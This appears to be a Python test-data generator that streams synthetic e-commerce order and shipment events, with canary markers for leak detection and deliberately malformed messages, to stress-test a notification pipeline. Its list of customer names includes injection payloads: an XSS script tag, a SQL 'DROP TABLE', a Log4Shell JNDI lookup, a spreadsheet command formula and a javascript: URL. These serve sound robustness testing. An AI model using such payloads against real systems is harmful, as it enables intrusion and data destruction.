#!/usr/bin/env python3
"""Events for the storm: plausible orders of many brands, with names that do harm where they can, and how they arrive.

    stream.py --seed N --events N --brands toml|events|arrival     prints what one seed makes, to look at

One seed and one moment make the same stream. Order numbers are the same in every brand, so that a key without its brand
mixes people up. All that is personal holds a *canary*: `qx`, six digits and `z`, one for each order; whatever holds another
order's canary went to the wrong person, and a log that holds any is one too many. Pickup codes (`PU`, six digits and `C`) and tracking
numbers (`TN`, six digits, `X` and the parcel) can be told from all else in the same way.
"""
import argparse
import base64
import json
import random
import re
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

# What nobody but its customer may see, wherever it stands; and tracking numbers, which their carrier may see as well.
CODE = re.compile(r"PU\d{6}C")
PERSONAL = re.compile(rb"qx\d{6}z|PU\d{6}C")
LOOK = re.compile(PERSONAL.pattern + rb"|TN\d{6}X\d")

BRANDS = 25
DISORDER = 500  # Places by which an event out of order is moved.
REPEAT_WITHIN = 1000  # Places within which a repeat follows its original.
# A reused id with other bytes must come after the event whose id it takes, or that one would be the refused one.
CONFLICT_AFTER = 4000

NAMES = (
    "Anna", "Zażółć Gęślą", "Ольга Коваленко", "João d'Ávila", "O'Neil \"Rocket\"", "<script>alert(1)</script>",
    "Robert'); DROP TABLE orders;--", "{{customer.name}}", "${jndi:ldap://x.example/a}", "=cmd|' /C calc'!A0",
    "www.evil.example", "https://evil.example/login", "محمد", "李小龍", "👩‍👩‍👧‍👦", "a\u202etxt.exe", "null", "undefined",
    "%s%n%x", "<b>bold</b>", "-->", "]]>", "Ω≈ç√∫", "Ð Ñ Ò", "A" * 60, "bcc: all@evil.example", ".", "Ｆｕｌｌ ｗｉｄｔｈ",
    "T\u0301o\u0323o\u0308", "javascript:alert(1)",
)
# Locale of the customer, country, how numbers begin there, city.
PLACES = (
    ("pl-PL", "PL", "+4850", "Gdańsk"), ("pl", "PL", "+4851", "Łódź"), ("uk-UA", "UA", "+38050", "Київ"), ("en-GB", "GB", "+44770", "Bristol"),
    ("pt-BR", "BR", "+551190", "São Paulo"), ("en", "IE", "+35385", "Galway"), ("de-DE", "DE", "+491511", "Köln"), ("fr", "FR", "+33601", "Liège"),
)
SPOKEN = {"pl": "pl", "uk": "uk", "en": "en", "pt": "pt-BR"}
DEFAULTS = ("en", "pl", "uk", "pt-BR")
CARRIERS = ("dpd", "inpost", "dhl", "nova-poshta", "correios")
REASONS = ("address_wrong", "customs_documents", "payment_due")

# Stories: weight, and what happens after the payment: (type, parcel, more).
S, T, O, D = "shipment.shipped", "shipment.in_transit", "shipment.out_for_delivery", "shipment.delivered"
STORIES = (
    (30, ((S, 1), (D, 1))), (24, ((S, 1), (O, 1), (D, 1))), (6, ((S, 1), (T, 1), (T, 1), (D, 1))),
    (12, ((S, 1), (S, 2), (D, 1), (D, 2))), (3, ((S, 1), (S, 2), (S, 3), (D, 2), (D, 1), (D, 3))),
    (8, ((S, 1), ("shipment.available_for_pickup", 1), (D, 1))), (5, ((S, 1), ("shipment.attempt_failed", 1), (D, 1))),
    (5, (("order.cancelled", 0),)), (3, ((S, 1), ("shipment.returning", 1), ("shipment.returned", 1))),
    (2, ((S, 1), ("shipment.lost", 1))), (2, ((S, 1), ("shipment.exception", 1), (D, 1))),
)


def canary(number):
    return f"qx{number:06}z"


def brand_id(number):
    return f"b{number:02}"


def brands_toml():
    """The brands' settings. Every fifth tells every stage although a later one may be known; the others keep the default.
    Texts go out at any hour, and at once: the storm has no time for mornings and windows."""
    parts = []
    for number in range(1, BRANDS + 1):
        brand, superseded = brand_id(number), '"send"' if number % 5 == 0 else '"drop"'
        parts.append(f"""[brands.{brand}]
name = "Shop {number}"
default_language = "{DEFAULTS[number % 4]}"
time_zone = "Europe/Warsaw"
sender = {{ address = "post@{brand}.example" }}
alerts = {{ tell = ["ops"], gather_secs = 5 }}
[brands.{brand}.policy]
superseded = {superseded}
merge_window = "0s"
quiet.sms = {{ from = "00:00", until = "24:00" }}
[brands.{brand}.policy.stages]
feedback.channels = []
delay_expected.channels = []
delay_again.channels = []
back_on_time.channels = []
""")
    return "".join(parts)


@dataclass
class Order:
    """What is true of an order, for whoever judges what was told of it."""

    number: int
    brand: str
    id: str
    email: str
    phone: str | None
    language: str
    events: list = field(default_factory=list)
    numbers: dict = field(default_factory=dict)


def language(locale, brand_number):
    return SPOKEN.get(locale.split("-")[0], DEFAULTS[brand_number % 4])


def make_order(chance, number, brand_number, start, order_id):
    """One order with its events, in the order of happening."""
    locale, country, prefix, city = chance.choice(PLACES)
    mark, brand = canary(number), brand_id(brand_number)
    phone = f"{prefix}{number:07}" if chance.random() < 0.4 else None
    local = chance.choice(("{}", "o'neil+{}", "{}.x", "UPPER.{}", "a_b-{}"))
    order = Order(number, brand, order_id, local.format(mark) + "@cust.example", phone, language(locale, brand_number))
    customer = {"id": f"c{number}", "name": f"{chance.choice(NAMES)} {mark}", "email": order.email, "locale": locale}
    if phone:
        customer["phone"] = phone
    story = chance.choices([s for _, s in STORIES], [w for w, _ in STORIES])[0]
    # As many sorts of things as parcels, one in each: so the order is complete when all have come.
    things = range(1, max(1, *(parcel for _, parcel in story)) + 1)
    items = [{"id": f"i{n}", "sku": f"SKU-{n}", "title": f"Thing {n} {chance.choice(NAMES)}", "qty": n} for n in things]
    paid = {
        "id": order.id, "customer": customer, "currency": "EUR", "total": 4200, "items": items,
        "address": {"line1": f"Street {mark} 1", "city": city, "postcode": "80-001", "country": country},
        "promise": {"date": (start + timedelta(days=6)).date().isoformat()},
    }
    at = start
    add(order, "order.paid", at, {"order": paid}, 0)
    for step, (kind, parcel) in enumerate(story, 1):
        at += timedelta(seconds=chance.randint(60, 600))
        add(order, kind, at, data_of(chance, order, kind, parcel, mark), step)
    return order


def data_of(chance, order, kind, parcel, mark):
    if not parcel:
        return {"order": {"id": order.id}, "reason": "customer asked"} if chance.random() < 0.5 else {"order": {"id": order.id}}
    tracking = order.numbers.setdefault(f"P{parcel}", f"TN{order.number:06}X{parcel}")
    shipment = {"id": f"P{parcel}", "carrier": CARRIERS[order.number % len(CARRIERS)], "tracking_number": tracking}
    if kind == "shipment.shipped":
        shipment["items"] = [{"id": f"i{parcel}", "qty": parcel}]
    if kind == "shipment.available_for_pickup":
        shipment["pickup"] = {"name": "Kiosk", "address": "Station 1", "code": f"PU{order.number:06}C"}
    if kind == "shipment.exception":
        shipment["reason"] = chance.choice(REASONS)
    if kind == "shipment.delivered":
        shipment["handover"] = chance.choice(("recipient", "neighbour", "safe_place", "locker"))
        shipment["description"] = f"left with {mark}"
    return {"order": {"id": order.id}, "shipment": shipment}


def add(order, kind, at, data, step):
    order.events.append({
        "specversion": "1.0", "id": f"{order.id}/{step}", "source": f"/shops/{order.brand}", "brand": order.brand, "type": kind,
        "time": at.isoformat(timespec="seconds"), "data": data,
    })


def orders_of(seed, events_wanted, now, skewed=False):
    """Orders with about so many events in all, over the last hours, a brand after the other; skewed: every second is the first brand's."""
    chance, orders, count = random.Random(f"{seed}/orders"), [], 0
    while count < events_wanted:
        number = len(orders)
        start = now - timedelta(hours=5) + timedelta(seconds=count * 3 * 3600 / events_wanted)
        brand_number = 1 if skewed and number % 2 else number % BRANDS + 1
        order_id = str(10_000 + (number if skewed else number // BRANDS))
        orders.append(make_order(chance, number, brand_number, start, order_id))
        count += len(orders[-1].events)
    return orders


def line(event):
    return json.dumps(event, ensure_ascii=False, separators=(",", ":")).encode()


def poison(chance, number, orders):
    """Bytes that no worker can take. Each holds a mark of its own, and a canary."""
    mark, brand = f"poison-{number}", brand_id(number % BRANDS + 1)
    good = {
        "specversion": "1.0", "id": mark, "source": f"/shops/{brand}", "brand": brand, "type": "order.paid", "time": "2026-11-01T09:00:00Z",
        "data": {"order": {"id": mark, "customer": {"email": f"{canary(900_000 + number % 90_000)}@cust.example"}}},
    }
    kind = chance.choice(("cut", "text", "nul", "deep", "no_offset", "brand", "no_id", "number", "big", "latin"))
    if kind == "cut":
        return line(good)[:-7]
    if kind == "text":
        return f"{mark} this is no event: {canary(950_000)}".encode()
    if kind == "nul":
        return line(good).replace(b'"order.paid"', b'"order.paid","subject":"a\\u0000b"')
    if kind == "deep":
        return b'{"' + mark.encode() + b'":' + b"[" * 300 + b"]" * 300 + b"}"
    if kind == "no_offset":
        return line({**good, "time": "2026-11-01T09:00:00"})
    if kind == "brand":
        return line({**good, "brand": f"nobody-{number}"})
    if kind == "no_id":
        return line({key: value for key, value in good.items() if key != "id"})
    if kind == "number":
        return line({**good, "data": {"order": {"id": mark, "customer": 7}}})
    if kind == "big" and number % 10 == 0:
        return line({**good, "data": {**good["data"], "fill": "x" * 300_000}})
    return line(good).replace(b"@cust", b"\xe9\xff@cust")


@dataclass(frozen=True)
class Arrival:
    """One message for the broker. `kind`: event, repeat, poison or conflict (an id used before, with other bytes)."""

    kind: str
    raw: bytes
    key: str  # What routes it.
    name: str  # brand/order/step, or the poison's number.


def arrivals_of(seed, orders, repeat=0.05, disorder=0.05, poisoned=0.01, conflicts=20):
    """The stream as it reaches the broker. An order's next event comes some hundred places after the one before."""
    chance, placed = random.Random(f"{seed}/arrivals"), []
    stride, count = 4.2, 0
    for order in orders:
        place = order.number * stride
        for step, event in enumerate(order.events):
            at = place + chance.uniform(-DISORDER, DISORDER) if chance.random() < disorder else place
            one = Arrival("event", line(event), event["type"], f"{order.brand}/{order.id}/{step}")
            placed.append((at, count, one))
            if chance.random() < repeat:
                for _ in range(chance.randint(1, 2)):
                    again = Arrival("repeat", one.raw, one.key, one.name)
                    placed.append((at + chance.uniform(0, REPEAT_WITHIN), count, again))
            count += 1
            place += chance.uniform(20, 800)
    end = max(at for at, _, _ in placed)
    for number in range(round(count * poisoned)):
        placed.append((chance.uniform(0, end), count, Arrival("poison", poison(chance, number, orders), "order.paid", str(number))))
    for number in range(min(conflicts, len(orders) // 4)):
        order = orders[number * (len(orders) // 2) // conflicts]
        paid = order.events[0]
        other = {**paid, "data": {"order": {**paid["data"]["order"], "total": 1 + number}}}
        after = order.number * stride + CONFLICT_AFTER
        placed.append((after, count, Arrival("conflict", line(other), "order.paid", f"conflict-{number}")))
    placed.sort(key=lambda one: one[:2])
    return [arrival for _, _, arrival in placed]


def packed(arrival):
    """A line for the publisher."""
    return json.dumps([arrival.kind, arrival.key, arrival.name, base64.b64encode(arrival.raw).decode()]) + "\n"


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("what", choices=("toml", "events", "arrival"))
    arguments.add_argument("--seed", default="1")
    arguments.add_argument("--events", type=int, default=1000)
    arguments = arguments.parse_args()
    if arguments.what == "toml":
        sys.stdout.write(brands_toml())
        return
    orders = orders_of(arguments.seed, arguments.events, datetime.now(timezone.utc))
    if arguments.what == "events":
        for order in orders:
            for event in order.events:
                sys.stdout.buffer.write(line(event) + b"\n")
        return
    for arrival in arrivals_of(arguments.seed, orders):
        sys.stdout.write(packed(arrival))


if __name__ == "__main__":
    main()
